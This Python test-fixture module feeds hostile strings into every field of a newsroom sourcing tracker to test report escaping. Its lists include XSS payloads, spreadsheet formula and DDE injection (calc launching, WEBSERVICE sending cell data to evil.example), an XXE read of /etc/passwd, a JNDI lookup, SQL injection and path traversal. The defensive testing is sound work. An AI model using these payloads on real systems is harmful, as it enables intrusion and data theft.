"""Words that somebody might put into any field to make a report do something, and a story that has them everywhere."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace

from tests import make
from tests.reports import rich
from tracker.domain.finding import Finding
from tracker.domain.vocabulary import Audience
from tracker.models.dossier import Dossier
from tracker.models.rows import ClaimRow, HoldRow, PassageRow, PersonRow
from tracker.reports.document import Document
from tracker.reports.sourcing_report import sourcing_report

EVIL = "evil.example"
"""A host that nothing may ask for anything; a test may put one of its own in its place that listens."""

PAGES = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title></head><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "<!-- --><svg/onload=alert(1)>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/i.png'/><script>alert(1)</script></svg>",
    "<iframe src='http://evil.example/'></iframe><link rel=stylesheet href='http://evil.example/s.css'>",
    "<style>@import url(http://evil.example/x.css); body { background: url(http://evil.example/b.png) }</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'><form action=x><input name=q>",
    "&lt;script&gt; &#x3C;b&#x3E; &amp;amp;",
    "]]><![CDATA[x]]>",
]
MARKDOWN = [
    "[click](javascript:alert(1))",
    "![seen](https://evil.example/pixel.png)",
    "[x]: https://evil.example 'title'",
    "<https://evil.example> and <a@evil.example>",
    "https://evil.example/?a=1&b=2 and www.evil.example",
    "| a | b |",
    "|---|---|",
    "# no heading #",
    "- no entry",
    "+ no entry",
    "1. no entry",
    "2) no entry",
    "> no quotation",
    "    no code",
    "```no code```",
    "`no` ``code``",
    "~~~",
    "~~struck~~",
    "***",
    "---",
    "===",
    "**bold** __bold__ *em* _em_",
    "snake_case_words and 2*3*4",
    "ends in a backslash \\",
    "\\*not escaped twice\\*",
    "$x$ and $$y$$",
    ":tada: @everyone #12",
    "[^1] [ ] [x]",
]
SPREADSHEETS = [
    '=HYPERLINK("https://evil.example")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMAGE("http://evil.example/i.png")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-5 degrees, said the driver",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "＝1+1",
    "a;=1+1,=1+1\t=1+1",
    '"=1+1","=1+1"',
    "_x0041_ and _x000D_",
    "00123",
    "1/2",
    "2023-02-30",
    "1e309",
    "TRUE",
]
DOCUMENTS = [
    "</w:t></w:r></w:p><w:p><w:r><w:t>another paragraph",
    "{ INCLUDEPICTURE http://evil.example/i.png } { DDEAUTO cmd }",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "<w:fldSimple w:instr='INCLUDETEXT http://evil.example/t.txt'/>",
]
GRAPHS = [
    '{"@context": "http://evil.example/context.jsonld", "@id": "x"}',
    "@type",
    "_:blank",
    "urn:x> <http://evil.example/p> <y",
    '"""@en . <http://evil.example/s> <http://evil.example/p> "o',
    "</script><script type=application/ld+json>{}",
    'http://evil.example/a b<c>"d{e}|f\\g^h`i',
]
LETTERS = [
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069 and \u200bnothing",
    "\x1b[31mred\x1b[0m\x07\x7f\x85",
    "one\r\nline\u2028after\u2029another",
    "nothing\x00here\ufffe\uffff",
    "tag \U000e0041\U000e0042",
    "W" * 3_000,
    "L" * 40_000,
    "e" + "\u0301" * 200,
    "👩\u200d👩\u200d👧 and 🇰🇵",
    "שלום עולם, مرحبا",
]
NAMES = [
    "../../etc/passwd",
    "C:\\CON\\NUL.txt",
    "\\\\evil.example\\share\\x",
    "file:///etc/passwd",
    "CON",
    "a/b:c*d?e[f]g",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }} {% raw %} ${x}",
    "'; DROP TABLE claim; --",
    "${jndi:ldap://evil.example/x}",
]
HOSTILE = [*PAGES, *MARKDOWN, *SPREADSHEETS, *DOCUMENTS, *GRAPHS, *LETTERS, *NAMES]


def everywhere(words: str) -> tuple[Dossier, Document]:
    """A story that has these words in every field that takes text, with its report."""
    text = sentence_with(words)
    person = make.person(words, words)
    claim = claim_of(words, person, 1, text)
    dossier = make.dossier(
        claim,
        drew_on=[replace(make.drew(make.source(words), make.source(words)), note=words)],
        text=text,
        headline=words,
        slug=words,
        reporter=person,
        ledger_head=words,
        second_person=words,
        url=words,
        published_at=make.NOON,
        sign_off=make.signed(by=person, sha256=words, policy=words),
        contradictions=(make.contradiction(words, claim, make.claim(words, number=2)),),
    )
    finding = replace(rich.FINDINGS[0], claim=dossier.claims[0].label, message=words, rule="single-source")
    stray = replace(finding, claim=words, rule=words)
    return dossier, sourcing_report(dossier, [finding, stray], Audience.LAWYER, made_at=rich.MADE_AT, version=words)


def all_at_once(table: Sequence[str]) -> tuple[Dossier, list[Finding]]:
    """One story with a claim for each of these words, which stand in every field of it, and what is found of them."""
    text = "\n".join(map(sentence_with, table))
    people = [make.person(words, words) for words in table]
    claims = [claim_of(words, by, at, text) for at, (words, by) in enumerate(zip(table, people, strict=True), 1)]
    dossier = make.dossier(*claims, text=text, slug="hostile", headline="A hostile story", reporter=people[0])
    found = replace(rich.FINDINGS[0], rule="single-source")
    labels = [claim.label for claim in dossier.claims]
    return dossier, [replace(found, claim=label, message=words) for label, words in zip(labels, table, strict=True)]


def sentence_with(words: str) -> str:
    """A sentence of the story that holds these words."""
    return f"It is told that {on_one_line(words)} stands in the story."


def on_one_line(words: str) -> str:
    """The words as they can stand within a sentence."""
    return words.translate({ord(end): " " for end in "\r\n"})


def claim_of(words: str, person: PersonRow, number: int, text: str) -> ClaimRow:
    """A claim that has these words in every field that takes text; it stands in its sentence of this text."""
    source = make.source(words, confidential=True, description=words, retracted=True, retracted_why=words)
    said = make.said(
        source,
        "alleged",
        via=[make.source(words)],
        cue=words,
        quote=words,
        said_on=words,
        locator=words,
        note=words,
        retracted_why=words,
        retracted=True,
        checked_by_id=person.id,
        checked_at=make.NOON,
    )
    held = make.held(
        make.source(words),
        excerpt=words,
        locator=words,
        url=words,
        archived_url=words,
        sha256=words,
        file_name=words,
        note=words,
        retracted_why=words,
        retracted=True,
    )
    asked = make.reply(
        words,
        asked_on=words,
        asked_by_id=person.id,
        channel=words,
        deadline=words,
        answer=words,
        stands=words,
        note=words,
    )
    sentence = text.index(sentence_with(words))
    start = text.index(on_one_line(words), sentence)
    return make.claim(
        words,
        sources=[said, make.said(make.source(words))],
        evidence=[held],
        state="verified",
        reviews=[
            make.step("take", person, start="unreviewed", to="in_review", reason=words),
            make.step("return", person, reason=words),
            make.step("propose", person, outcome="verified", reason=words),
            replace(make.step("approve", person, outcome="verified", to="verified", reason=words), overrides=words),
        ],
        replies=[asked],
        waivers=[make.waived(words, person, until="2026-12-31", reason=words)],
        passages=[PassageRow(1, start, start + len(on_one_line(words)), on_one_line(words))],
        about=words,
        as_of=words,
        note=words,
        hold=HoldRow(person.id, words, make.NOON, make.NOON),
        number=number,
    )
